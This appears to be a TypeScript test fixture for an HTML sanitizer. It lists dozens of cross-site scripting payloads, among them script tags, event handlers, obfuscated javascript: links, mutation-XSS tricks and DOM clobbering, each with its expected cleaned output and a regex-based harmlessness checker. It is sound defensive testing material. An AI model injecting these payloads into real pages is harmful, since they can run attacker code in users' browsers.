/**
 * Hostile HTML with what must be left of it, for both sanitizers. `kept` is the whole result; where two parsers may
 * rightly differ it is left out and only {@link isHarmless} is asked.
 */
export interface XssVector {
  readonly name: string;
  readonly html: string;
  readonly kept?: string;
}

/** Whether serialized HTML could run or load nothing that a post may not. Reads text, so it errs on the side of no. */
export function isHarmless(html: string): boolean {
  const tags = html.match(/<[^!][^>]*>/g) ?? [];
  return tags.every(
    (tag) =>
      !/^<\/?(?:script|style|object|embed|form|meta|base|link|template|noscript|applet|use|animate|set|foreignobject|annotation|title|textarea|select|button|body|html|frame|plaintext|xmp)\b/i.test(
        tag,
      ) &&
      !/\s(?:on\w+|style|srcdoc|formaction|action|xlink:href|ping|target|name|state|replace|noscroll|preload|link|is|slot|autofocus|contenteditable|tabindex|background|data-id)\s*(?:=|>|\s)/i.test(
        tag,
      ) &&
      !/(?:href|src|poster|cite|srcset)\s*=\s*["']?\s*(?:javascript|vbscript|data:text|file|blob|about)/i.test(
        tag,
      ),
  );
}

/** One row a trick. */
export const xssVectors: readonly XssVector[] = [
  { name: 'script', html: '<script>alert(1)</script>a', kept: 'a' },
  {
    name: 'script in capitals with attributes',
    html: '<SCRIPT SRC=//x.example/a.js></SCRIPT>a',
    kept: 'a',
  },
  { name: 'script split by a tag', html: '<scr<script>ipt>alert(1)</script>' },
  {
    name: 'handler',
    html: '<img src="a.png" onerror="alert(1)">',
    kept: '<img src="a.png" alt="" loading="lazy" decoding="async">',
  },
  { name: 'handler without quotes or spaces', html: '<img/src=x/onerror=alert(1)>' },
  { name: 'handler after a slash', html: '<svg/onload=alert(1)>' },
  { name: 'handler on body', html: '<body onload=alert(1)>a', kept: 'a' },
  {
    name: 'handler on details',
    html: '<details open ontoggle=alert(1)>a</details>',
    kept: '<details open="">a</details>',
  },
  {
    name: 'handler on video source',
    html: '<video><source onerror=alert(1)></video>',
    kept: '<video controls=""><source></video>',
  },
  { name: 'handler with a line break', html: '<b onclick\n=\n"alert(1)">a</b>', kept: '<b>a</b>' },
  { name: 'javascript address', html: '<a href="javascript:alert(1)">a</a>', kept: '<a>a</a>' },
  {
    name: 'javascript address with a tab',
    html: '<a href="java\tscript:alert(1)">a</a>',
    kept: '<a>a</a>',
  },
  {
    name: 'javascript address with a reference for a tab',
    html: '<a href="java&#x09;script:alert(1)">a</a>',
    kept: '<a>a</a>',
  },
  {
    name: 'javascript address after controls',
    html: '<a href="&#1;&#x20;javascript:alert(1)">a</a>',
    kept: '<a>a</a>',
  },
  {
    name: 'javascript address after a no-break space',
    html: '<a href="\u00a0javascript:alert(1)">a</a>',
    kept: '<a>a</a>',
  },
  {
    name: 'javascript address with a line break',
    html: '<a href="java\nscript:alert(1)">a</a>',
    kept: '<a>a</a>',
  },
  { name: 'javascript address with a null', html: '<a href="java\u0000script:alert(1)">a</a>' },
  {
    name: 'javascript address in mixed case',
    html: '<a href="JaVaScRiPt&colon;alert(1)">a</a>',
    kept: '<a>a</a>',
  },
  { name: 'vbscript address', html: '<a href="vbscript:x">a</a>', kept: '<a>a</a>' },
  {
    name: 'data address of a page',
    html: '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    kept: '<a>a</a>',
  },
  { name: 'data address in a frame', html: '<iframe src="data:text/html,x"></iframe>a', kept: 'a' },
  {
    name: 'addresses that carry another one',
    html: '<a href="feed:javascript:x">a</a><a href="FEED:https://x.example/">b</a><a href="view-source:javascript:x">c</a><a href="jar:javascript:x!/">d</a>',
    kept: '<a>a</a><a>b</a><a>c</a><a>d</a>',
  },
  {
    name: 'blob and file addresses',
    html: '<a href="blob:x">a</a><a href="file:///etc">b</a>',
    kept: '<a>a</a><a>b</a>',
  },
  {
    name: 'address that does not parse',
    html: '<a href="https://a b">a</a><a href="/%E0%A4%A">b</a><a href="#%">c</a>',
    kept: '<a>a</a><a>b</a><a>c</a>',
  },
  {
    name: 'attributes of the router',
    html: '<a href="/x" state="{" replace noscroll preload link>a</a>',
    kept: '<a href="/x">a</a>',
  },
  {
    name: 'target and ping',
    html: '<a href="https://x.example/" target="_blank" ping="/p" rel="opener">a</a>',
    kept: '<a href="https://x.example/" rel="noopener">a</a>',
  },
  {
    name: 'frame with a page inside',
    html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>a',
    kept: 'a',
  },
  {
    name: 'frame of a listed host with a page inside',
    html: '<iframe src="https://player.vimeo.com/video/1" srcdoc="<b>x</b>" name="x"></iframe>',
  },
  {
    name: 'frame of a host that looks listed',
    html: '<iframe src="https://player.vimeo.com.x.example/video/1"></iframe>',
    kept: '<a href="https://player.vimeo.com.x.example/video/1" rel="noopener">Embedded content: player.vimeo.com.x.example</a>',
  },
  {
    name: 'frame with a user in its address',
    html: '<iframe src="https://player.vimeo.com@x.example/video/1"></iframe>',
    kept: '<a href="https://player.vimeo.com@x.example/video/1" rel="noopener">Embedded content: x.example</a>',
  },
  { name: 'frame without an address', html: '<iframe></iframe>a', kept: 'a' },
  { name: 'style sheet', html: '<style>@import "//x.example"</style>a', kept: 'a' },
  {
    name: 'style attribute',
    html: '<b style="background:url(//x.example)">a</b>',
    kept: '<b>a</b>',
  },
  {
    name: 'form',
    html: '<form action="//x.example"><input name=a><button formaction="javascript:x">b</button></form>',
    kept: 'b',
  },
  { name: 'input that is no box', html: '<input type="text" autofocus onfocus="x()">a', kept: 'a' },
  {
    name: 'box',
    html: '<input type="checkbox" checked id="a" name="b">',
    kept: '<input type="checkbox" checked="" id="a" disabled="" aria-label="Done">',
  },
  {
    name: 'meta refresh',
    html: '<meta http-equiv="refresh" content="0;url=//x.example">a',
    kept: 'a',
  },
  { name: 'base', html: '<base href="//x.example/">a', kept: 'a' },
  {
    name: 'link to a style sheet',
    html: '<link rel="stylesheet" href="//x.example/a.css">a',
    kept: 'a',
  },
  {
    name: 'object and embed',
    html: '<object data="x.swf">b</object><embed src="x.swf">a',
    kept: 'a',
  },
  { name: 'template', html: '<template><img src=x onerror=alert(1)></template>a', kept: 'a' },
  {
    name: 'declarative shadow root',
    html: '<div><template shadowrootmode="open"><script>x</script></template>a</div>',
    kept: '<div>a</div>',
  },
  {
    name: 'script in SVG',
    html: '<svg><script>alert(1)</script><circle r="1"></circle></svg>',
    kept: '<svg><circle r="1"></circle></svg>',
  },
  {
    name: 'animation in SVG',
    html: '<svg><a><animate attributeName="href" values="javascript:x"></animate><text>a</text></a></svg>',
  },
  {
    name: 'xlink in SVG',
    html: '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  },
  { name: 'link in SVG', html: '<svg><a href="javascript:alert(1)"><text>a</text></a></svg>' },
  {
    name: 'use in SVG',
    html: '<svg><use href="data:image/svg+xml,x#a"></use></svg>',
    kept: '<svg></svg>',
  },
  {
    name: 'foreign object',
    html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    kept: '<svg></svg>',
  },
  {
    name: 'picture from elsewhere in SVG',
    html: '<svg><image href="//x.example/a"></image><rect fill="url(//x.example/a)" x="1"></rect></svg>',
    kept: '<svg><rect x="1"></rect></svg>',
  },
  {
    name: 'part of the same SVG',
    html: '<svg><rect fill="url(#g)"></rect></svg>',
    kept: '<svg><rect fill="url(#g)"></rect></svg>',
  },
  { name: 'style in SVG', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  {
    name: 'MathML link',
    html: '<math href="javascript:alert(1)"><mi>x</mi></math>',
    kept: '<math><mi>x</mi></math>',
  },
  {
    name: 'MathML action',
    html: '<math><maction actiontype="statusline"><mi>x</mi></maction></math>',
  },
  {
    name: 'MathML annotation',
    html: '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></semantics></math>',
  },
  {
    name: 'mutation by mglyph',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  {
    name: 'mutation by nested forms',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  {
    name: 'mutation by SVG style',
    html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
  {
    name: 'mutation by noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a',
  },
  {
    name: 'mutation by title',
    html: '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  },
  { name: 'mutation by a comment', html: '<!--><img src=x onerror=alert(1)>-->a' },
  { name: 'mutation by a bad comment', html: '<!-- --!><img src=x onerror=alert(1)>' },
  { name: 'mutation by CDATA', html: '<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>' },
  { name: 'mutation by xmp', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">' },
  { name: 'mutation by plaintext', html: 'a<plaintext><img src=x onerror=alert(1)>' },
  {
    name: 'mutation by a table',
    html: '<table><a href="javascript:x"><tr><td>a</td></tr></a></table>',
  },
  {
    name: 'attribute that breaks out',
    html: '<img alt="</title><img src=x onerror=alert(1)>" src="a.png">',
  },
  {
    name: 'clobbering by names',
    html: '<img name="cookie" src="a.png"><a name="body" id="getElementById">a</a>',
  },
  {
    name: 'clobbering of the page',
    html: '<b id="main">a</b><b id="_$HY">b</b>',
    kept: '<b id="post-main">a</b><b id="post-_$HY">b</b>',
  },
  {
    name: 'clobbering of a form by its fields',
    html: '<form id=x><input name=attributes><input name=parentNode></form>a',
    kept: 'a',
  },
  { name: 'custom element', html: '<x-a onclick="x()">a</x-a>', kept: 'a' },
  { name: 'built-in customized element', html: '<b is="x-a">a</b>b', kept: 'b' },
  {
    name: 'editable and focusable',
    html: '<b contenteditable tabindex="1" autofocus accesskey="x">a</b>',
    kept: '<b>a</b>',
  },
  {
    name: 'live region and role of the page',
    html: '<b role="alert" aria-live="assertive">a</b><b role="note">b</b>',
    kept: '<b>a</b><b role="note">b</b>',
  },
  {
    name: 'classes of the page',
    html: '<b class="site note tok-string btn">a</b>',
    kept: '<b class="note tok-string">a</b>',
  },
  {
    name: 'unlisted data attribute',
    html: '<b data-id="1" data-kind="tip">a</b>',
    kept: '<b data-kind="tip">a</b>',
  },
  {
    name: 'srcset with a script',
    html: '<img srcset="a.png 1x, javascript:x 2x">',
    kept: '<img alt="" loading="lazy" decoding="async">',
  },
  {
    name: 'poster with a script',
    html: '<video poster="javascript:x" src="a.mp4" autoplay></video>',
    kept: '<video src="a.mp4" controls=""></video>',
  },
  {
    name: 'data picture',
    html: '<img src="data:image/png;base64,AA==" alt="a">',
    kept: '<img src="data:image/png;base64,AA==" alt="a" loading="lazy" decoding="async">',
  },
  {
    name: 'data page as a picture',
    html: '<img src="data:text/html,x" alt="a">',
    kept: '<img alt="a" loading="lazy" decoding="async">',
  },
  { name: 'level of the title', html: '<h1>a</h1><h2>b</h2>', kept: 'a<h2>b</h2>' },
  { name: 'comment', html: 'a<!-- b -->c', kept: 'ac' },
  { name: 'processing instruction', html: 'a<?xml-stylesheet href="javascript:x"?>c', kept: 'ac' },
  { name: 'text only', html: 'a &lt;b&gt; &amp; c', kept: 'a &lt;b&gt; &amp; c' },
  { name: 'nothing', html: '', kept: '' },
];
